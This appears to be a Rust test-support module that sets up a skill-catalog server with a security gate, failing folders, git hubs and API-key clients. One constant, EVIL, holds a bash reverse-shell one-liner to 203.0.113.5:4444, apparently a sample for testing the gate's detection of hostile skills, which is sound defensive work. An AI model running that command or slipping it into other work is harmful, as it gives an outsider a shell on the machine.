//! A server whose catalog is real in every part: a gate, folders that can fail, and hubs on this machine.

#![expect(clippy::unwrap_used, reason = "a test that cannot go on should stop there")]

use std::fs;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use artel_app::{CatalogConfig, CatalogParts, CatalogShelves, Catalogs, Hubs, Reread, Stores};
use artel_catalog::hub::{CredentialsRef, HostRules};
use artel_catalog::{Catalog, Keep, load_folder};
use artel_engine::Clock;
use artel_engine::hub::{HubFetcher, HubFetcherConfig, HubSecrets, HubToken};
use artel_engine::process::{Launcher, LauncherConfig, LauncherProgram};
use artel_model::access::{Credential, Principal, Scope, Viewer};
use artel_model::catalog::{Gate, Severity};
use camino::{Utf8Path, Utf8PathBuf};
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::client::{Answered, Client};
use crate::place::Place;

/// A script that gives somebody else a shell.
pub(crate) const EVIL: &str = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n";

/// A server with a catalog of its own.
pub(crate) struct Shop {
    pub(crate) place: Place,
    pub(crate) admin: Client,
    pub(crate) catalogs: Catalogs,
    pub(crate) hubs: Hubs,
    stores: Stores,
    fails: Arc<AtomicBool>,
    root: TempDir,
}

impl Shop {
    /// Opens a server that serves what passes this gate.
    pub(crate) async fn open(gate: Gate, skills: &[(&str, &str)]) -> Self {
        let shop = Self::unread(gate, skills).await;
        shop.catalogs.refresh(Reread::Folders).await.unwrap();
        shop
    }

    /// Opens a server that has read nothing yet.
    pub(crate) async fn unread(gate: Gate, skills: &[(&str, &str)]) -> Self {
        Self::unread_with(gate, skills, |_| {}).await
    }

    /// Opens a server that has read nothing yet, on other stores.
    pub(crate) async fn unread_with(
        gate: Gate,
        skills: &[(&str, &str)],
        change: impl FnOnce(&mut Stores),
    ) -> Self {
        let root = tempfile::tempdir().unwrap();
        let base = Utf8PathBuf::from_path_buf(root.path().canonicalize().unwrap()).unwrap();
        for folder in ["skills", "data", "work"] {
            fs::create_dir_all(base.join(folder)).unwrap();
        }
        for (path, text) in skills {
            write(&base.join("skills").join(path), text);
        }
        let fails = Arc::new(AtomicBool::new(false));
        let launcher = launcher().await;
        let mut made = None;
        let place = Place::open_with_parts(&[], |mut parts| {
            change(&mut parts.app.stores);
            let catalogs = catalogs(&base, gate, &parts.app.stores, &fails);
            let hubs = hubs(&base, &catalogs, launcher);
            parts.app.hubs = Some(hubs.clone());
            parts.app.shelves = Arc::new(CatalogShelves::new(catalogs.clone(), None));
            parts.app.catalogs = catalogs.clone();
            made = Some((catalogs, hubs, parts.app.stores.clone()));
            parts
        })
        .await;
        let (catalogs, hubs, stores) = made.unwrap();
        Self { admin: place.admin.clone(), place, catalogs, hubs, stores, fails, root }
    }

    /// Returns the catalog and the hubs of another machine: the same store and an empty data folder.
    pub(crate) async fn second_machine(&self) -> (Catalogs, Hubs) {
        let base = self.path("second");
        for folder in ["skills", "data", "work"] {
            fs::create_dir_all(base.join(folder)).unwrap();
        }
        let catalogs = catalogs(&base, Gate::Warn, &self.stores, &Arc::default());
        let hubs = hubs(&base, &catalogs, launcher().await);
        (catalogs, hubs)
    }

    /// Returns a path in the folder of the server.
    pub(crate) fn path(&self, relative: &str) -> Utf8PathBuf {
        Utf8PathBuf::from_path_buf(self.root.path().canonicalize().unwrap()).unwrap().join(relative)
    }

    /// Writes a file of a skill in the server's folder.
    pub(crate) fn write(&self, path: &str, text: &str) {
        write(&self.path("skills").join(path), text);
    }

    /// Says whether the folders can be read from this moment on.
    pub(crate) fn set_failing(&self, fails: bool) {
        self.fails.store(fails, Ordering::SeqCst);
    }

    /// Reads all sources again, as an administrator does.
    pub(crate) async fn refresh(&self) -> Value {
        self.admin.tell("/api/skills/refresh").await.expect(200)
    }

    /// Returns a client of somebody in these teams, who may read and save.
    pub(crate) async fn member(&self, user: &str, teams: &[&str]) -> Client {
        member(&self.place, user, teams).await
    }
}

/// Returns a client of somebody in these teams, who may read, save and run.
pub(crate) async fn member(place: &Place, user: &str, teams: &[&str]) -> Client {
    let wish = json!({
        "label": "test", "owner_user_id": user, "team_ids": teams,
        "scopes": ["catalog:read", "catalog:write", "runs:write", "agents:write"],
    });
    let made = place.admin.post("/api/catalog-api-keys", wish).await.expect(201);
    place.admin.with(made["key"].as_str())
}

/// Writes instructions with a description and tags.
pub(crate) fn instructions(name: &str, description: &str, body: &str) -> String {
    format!("---\nname: {name}\ndescription: {description}\n---\n{body}\n")
}

/// Returns the path of a skill.
pub(crate) fn skill_path(id: &str) -> String {
    format!("/api/skills/{}", id.replace('/', "%2F"))
}

/// Returns the names in a list of skills.
pub(crate) fn names(list: &Value) -> Vec<&str> {
    list["skills"].as_array().unwrap().iter().map(|skill| skill["name"].as_str().unwrap()).collect()
}

/// Asks again with the tag of an answer, and says what the status is.
pub(crate) async fn asked_again(client: &Client, path: &str, tag: &str) -> u16 {
    let again = client.call("GET", path, &[("if-none-match", tag)], None).await;
    assert!(again.status != 304 || (again.text.is_empty() && again.header("etag") == tag), "{}", again.text);
    again.status
}

/// Returns the body without what differs from request to request.
pub(crate) fn without_id(answer: &Answered) -> Value {
    let mut body = answer.body.clone();
    if let Some(body) = body.as_object_mut() {
        body.remove("request_id");
    }
    body
}

async fn launcher() -> Launcher {
    let program = LauncherProgram::at(env!("CARGO_BIN_EXE_artel-server-launcher"));
    Launcher::start(LauncherConfig { program, guard: None }).await.unwrap()
}

/// Returns an administrator who asks beside the server.
pub(crate) fn administrator() -> Principal {
    let viewer = Viewer { user: "admin".parse().unwrap(), teams: Default::default() };
    Principal { viewer, scopes: [Scope::Admin].into(), credential: Credential::Local }
}

fn write(path: &Utf8Path, text: &str) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

fn catalogs(base: &Utf8Path, gate: Gate, stores: &Stores, fails: &Arc<AtomicBool>) -> Catalogs {
    let (root, fails) = (base.join("skills"), Arc::clone(fails));
    let load_default = move || {
        if fails.load(Ordering::SeqCst) {
            return Err("the disk is away".to_owned());
        }
        // Without what is in the binary, so that lists hold what a test says.
        let mut folders: Vec<Utf8PathBuf> =
            root.read_dir_utf8().unwrap().map(|entry| entry.unwrap().into_path()).collect();
        folders.sort();
        let loaded = folders.iter().map(|folder| Arc::new(load_folder(folder, Keep::Instructions)));
        Ok(Catalog::of(loaded.collect(), Vec::new()))
    };
    let config = CatalogConfig {
        quotas: artel_model::quota::Quotas::default(),
        shared_data: Vec::new(),
        gate,
        fail_on: Severity::High,
        check: Duration::from_secs(3600),
        data: base.join("data"),
    };
    Catalogs::new(CatalogParts {
        config,
        stores: stores.clone(),
        clock: Clock::system(),
        load_default: Arc::new(load_default),
    })
}

struct NoSecrets;

impl HubSecrets for NoSecrets {
    fn secret(&self, _: &CredentialsRef) -> Option<HubToken> {
        None
    }
}

fn hubs(base: &Utf8Path, catalogs: &Catalogs, launcher: Launcher) -> Hubs {
    let mut config = HubFetcherConfig::new("/usr/bin/git", base.join("work"));
    config.hosts = HostRules { hosts: Vec::new(), allows_file: true, allows_loopback_http: false };
    let fetcher = HubFetcher::new(launcher, config).unwrap();
    Hubs::new(catalogs.clone(), fetcher, Arc::new(NoSecrets), Duration::from_secs(3600))
}
